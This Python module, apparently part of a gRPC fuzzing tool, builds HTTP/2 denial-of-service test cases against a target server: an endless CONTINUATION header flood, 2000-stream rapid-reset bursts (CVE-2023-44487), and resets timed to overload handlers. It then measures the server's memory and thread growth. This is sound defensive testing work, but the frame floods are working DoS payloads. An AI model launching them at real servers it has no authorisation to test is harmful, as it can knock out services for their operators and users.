"""Attacks on HTTP/2 that every server has heard of: calls that are reset at once, a header block without end."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator, Sequence

from puregrpc.fuzz.cases.answer import Answer
from puregrpc.fuzz.cases.case import Case, Step
from puregrpc.fuzz.cases.headers import without_deadline
from puregrpc.fuzz.checks.words import Observation, Profile
from puregrpc.fuzz.connection.link import Link
from puregrpc.fuzz.connection.target import Target
from puregrpc.fuzz.frames.probe import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    OPENING,
    PING,
    RST_STREAM,
    block,
    frame,
    indexed,
    message,
    plain_literal,
)
from puregrpc.fuzz.measures.usage import MEBIBYTE, UsageWatch

__all__ = ["attack_cases"]

HEADER_BLOCK = 24 << 20
"""Octets of one header block that no server takes; grpc-go's limit is 16 MiB."""
HEADER_SECONDS = 6.0
PATIENCE = 2.0
RESETS_SECONDS = 3.0
MANY_THREADS = 250
"""More threads than a pool has: of 2000 calls, each eighth has one of its own."""
RESET_REFERENCE = "CVE-2023-44487 (rapid reset)"
CANCEL = b"\0\0\0\x08"
SLOWEST, QUICKEST = 1.0, 0.008
"""Seconds that a handler takes of which many can be under way; of quicker ones there are never many."""
MOST_ALLOWED = 1000
ROUNDS = 40
STARTED = 0.001
"""Seconds in which some calls are with their handlers."""
BEYOND = 3
"""So many times as many handlers as are allowed are no inaccuracy of clocks."""
HANDLER_MEMORY = 4 << 10
"""Octets that a handler which is under way has at least; a call that waits for one, or was dropped, has less."""
HANDLERS_MEMORY = 5 * MEBIBYTE

Observed = tuple[Case, "Observation | None"]


def attack_cases(
    target: Target, profiles: Sequence[Profile], watch: UsageWatch, fresh: Callable[[], object]
) -> Iterator[Observed]:
    """Each case with what it showed, twice where it showed something.

    ``fresh`` begins the target again if that is possible: memory that was given back to it before, hides what it keeps.
    """
    if not profiles:
        return
    if watch.is_possible:
        fresh()
    yield _header_block(target, profiles[0])
    yield from _resets(target, profiles, watch)
    if watch.is_possible:
        yield from _handlers(target, profiles, fresh)


def _header_block(target: Target, profile: Profile) -> Observed:
    """A header block without end: whether it is kept, or read on although it was too long for the call already.

    Who answers it with a grpc-status has a limit for calls (RFC 9113, section 10.5.1). Who ends the call without one,
    in place of the connection, has read and decoded all of it for nothing, and so it would have gone on.
    """
    field = b"\x00" + plain_literal(b"x") + plain_literal(b"a" * 16000)
    case = Case(
        "frame", profile.path, (Step("flood", until="large-continuations"),), "any", "a header block that does not end",
        "CVE-2023-45288, CVE-2024-27316, CVE-2024-28182", "high",
    )  # fmt: skip
    piece = frame(CONTINUATION, 0, 1, field)
    grown = 0
    text = ""
    for _ in range(2):
        before = target.usage()
        try:
            link = target.link(raw=True)
        except OSError:
            return case, None
        sent = 0
        begun = time.monotonic()
        with link:
            first = link.expect(1)
            link.send(OPENING + frame(HEADERS, 0, 1, block(profile.fields)))
            while sent < HEADER_BLOCK and not _is_over(link) and time.monotonic() - begun < HEADER_SECONDS:
                if not link.send(piece * 8, 1.0):
                    break
                sent += len(piece) * 8
                link.turn(0)
            link.turn(0.3)
            if _is_over(link) or sent < HEADER_BLOCK:
                return case, None
            after = target.usage()
            if before is not None and after is not None:
                # What was given back to the process the first time is taken again the second, and does not show.
                grown = grown or after.memory - before.memory
            if _is_read_to_its_end(link, first, profile):
                text = f"one header block of {sent >> 20} MiB is read to its end, for a call that is refused then"
            elif grown >= sent * 3 // 4:
                text = f"one header block of {sent >> 20} MiB is kept ({grown >> 20} MiB more)"
            else:
                return case, None
    return case, Observation("limit-exceeded", text, ("header block",))


def _is_read_to_its_end(link: Link, first: Answer, profile: Profile) -> bool:
    """End the header block: whether its call ends without a status, and another one on the connection served."""
    link.send(frame(CONTINUATION, END_HEADERS, 1, b"\x00" + plain_literal(b"x") + plain_literal(b"a")))
    link.send(frame(DATA, END_STREAM, 1, message(profile.octets)))
    link.pump(time.monotonic() + PATIENCE)
    if first.code is not None or not first.ended or _is_over(link):
        return False
    second = link.expect(3)
    link.send(frame(HEADERS, END_HEADERS, 3, block(without_deadline(profile.fields))))
    link.send(frame(DATA, END_STREAM, 3, message(profile.octets)))
    link.pump(time.monotonic() + PATIENCE)
    return second.code is not None and not _is_over(link)


def _handlers(target: Target, profiles: Sequence[Profile], fresh: Callable[[], object]) -> Iterator[Observed]:
    """More handlers at once than calls are allowed, by calls that are reset once they are with theirs.

    A server that stands lets nobody begin more of them, or ends them with their calls, or has them wait. That it does
    none of it is told by time and memory together: so many were begun while one takes its time, the connection was
    read on all the while, and memory has grown by what they have.
    """
    unary = [each for each in profiles if not each.method.is_client_stream and not each.method.is_server_stream]
    slow = [each for each in unary if each.is_steady and QUICKEST <= each.seconds <= SLOWEST]
    if not slow or target.is_collected():
        return
    profile = max(slow, key=lambda each: each.seconds)
    made = (Step("open", fields=profile.fields), Step("message", octets=profile.octets, end=True))
    about = "calls that are reset while their handlers are under way"
    steps = (*made, Step("reset", code=8))
    case = Case("frame", profile.path, steps, "any", about, RESET_REFERENCE, "high")
    seen: Observation | None = None
    for _ in range(2):
        fresh()
        count, allowed, grown = _begun_at_once(target, profile)
        if count < BEYOND * allowed or (grown < HANDLERS_MEMORY and (target.can_restart or seen is None)):
            yield case, None
            return
        text = f"{case.about}: {count} of them at once, where {allowed} are allowed ({grown >> 20} MiB of memory)"
        seen = Observation("limit-exceeded", text, ("handlers",), "high", case.reference)
    yield case, seen


def _begun_at_once(target: Target, profile: Profile) -> tuple[int, int, int]:
    """How many handlers were under way at once, how many are allowed, and the memory that they took."""
    first, following = indexed(without_deadline(profile.fields))
    body = message(profile.octets)
    nothing = 0, MOST_ALLOWED, 0
    try:
        with target.link() as link:
            until = time.monotonic() + PATIENCE
            while not link.has_acknowledgement and not link.closed and time.monotonic() < until:
                link.turn(0.1)
            allowed = link.settings.get(3, 1 << 31)
            if not 0 < allowed <= MOST_ALLOWED:
                return nothing
            # As many as are allowed, so that what these have is there already.
            seconds = SLOWEST
            for _ in range(3):
                calls = [(without_deadline(profile.fields), body)] * min(allowed, 100)
                answers = link.burst(calls)
                link.pump(time.monotonic() + PATIENCE)
                if link.unfinished or _is_over(link):
                    return nothing
                seconds = min(seconds, *(each.seconds for each in answers))
            before = target.usage()
            begun = time.monotonic()
            count = _begin_and_reset(link, min(allowed, 100), first, following, body)
            mark = b"done\0\0\0\0"
            link.send(frame(PING, 0, 0, mark))
            until = time.monotonic() + PATIENCE
            while mark not in link.pongs and not _is_over(link) and time.monotonic() < until:
                link.turn(0.05)
            taken = time.monotonic() - begun
            after = target.usage()
            if mark not in link.pongs or _is_over(link) or before is None or after is None:
                return nothing
            at_once = int(count * seconds / max(taken, seconds))
            grown = after.memory - before.memory
            if grown < HANDLER_MEMORY * (at_once - allowed) or not _is_answered(target, profile):
                return nothing
            return at_once, allowed, grown
    except OSError:
        return nothing


def _begin_and_reset(link: Link, at_once: int, first: bytes, following: bytes, body: bytes) -> int:
    """Make calls, some at a time, and reset them as soon as they are with their handlers; how many."""
    count = 0
    head = first
    for _ in range(ROUNDS):
        calls, resets = bytearray(), bytearray()
        for _ in range(at_once):
            stream = link.next_stream
            if link.room(stream) < len(body):
                break
            link.next_stream += 2
            link.expect(stream).cancelled = True
            link.spend(stream, len(body))
            calls += frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, body)
            resets += frame(RST_STREAM, 0, stream, CANCEL)
            head = following
            count += 1
        link.send(bytes(calls), 1.0)
        until = time.monotonic() + STARTED
        while (left := until - time.monotonic()) > 0 and not _is_over(link):
            link.turn(left)
        if not link.send(bytes(resets), 1.0) or _is_over(link):
            break
    return count


def _is_answered(target: Target, profile: Profile) -> bool:
    """Whether another client's call is answered in its usual time: the handlers have no queue."""
    with target.link() as link:
        answer = link.call(without_deadline(profile.fields), message(profile.octets))
        link.pump(time.monotonic() + PATIENCE)
        return answer.ended and answer.seconds < 3 * profile.seconds + STARTED * 50


def _resets(target: Target, profiles: Sequence[Profile], watch: UsageWatch) -> Iterator[Observed]:
    """Calls that are reset as soon as they are made (CVE-2023-44487), of the slowest method and the quickest."""
    chosen = {
        each.path: each for each in (max(profiles, key=lambda e: e.seconds), min(profiles, key=lambda e: e.seconds))
    }
    for profile in chosen.values():
        first, following = indexed(profile.fields)
        body = message(profile.octets)[:16000]
        out = bytearray(OPENING)
        for number in range(2000):
            stream = 1 + 2 * number
            out += frame(HEADERS, END_HEADERS, stream, following if number else first)
            out += frame(DATA, END_STREAM, stream, body) + frame(RST_STREAM, 0, stream, CANCEL)
        case = Case(
            "frame",
            profile.path,
            (Step("raw", octets=bytes(out), seconds=0.5),),
            "any",
            "2000 calls that are reset at once",
            RESET_REFERENCE,
            "high",
        )
        grown: list[int] = []
        for _ in range(2 if watch.is_possible else 1):
            before = target.usage()
            most = _threads_meanwhile(target, bytes(out) + frame(PING, 0, 0, bytes(8)))
            grown.append(most - before.threads if before is not None else 0)
            if grown[0] <= MANY_THREADS:
                break
        observation = None
        if len(grown) == 2 and min(grown) > MANY_THREADS:
            observation = Observation(
                "limit-exceeded", f"{case.about}: {min(grown)} threads more", ("threads",), "high", case.reference
            )
        yield case, observation


def _threads_meanwhile(target: Target, octets: bytes) -> int:
    """Send octets that end with PING; the most threads that the target has until it has answered that."""
    most = 0
    try:
        with target.link(raw=True) as link:
            link.send(octets)
            until = time.monotonic() + RESETS_SECONDS
            while not link.pongs and not _is_over(link) and time.monotonic() < until:
                link.turn(0.1)
                usage = target.usage()
                most = max(most, usage.threads if usage is not None else 0)
    except OSError:
        pass
    usage = target.usage()
    return max(most, usage.threads if usage is not None else 0)


def _is_over(link: Link) -> bool:
    return bool(link.closed) or link.goaway is not None
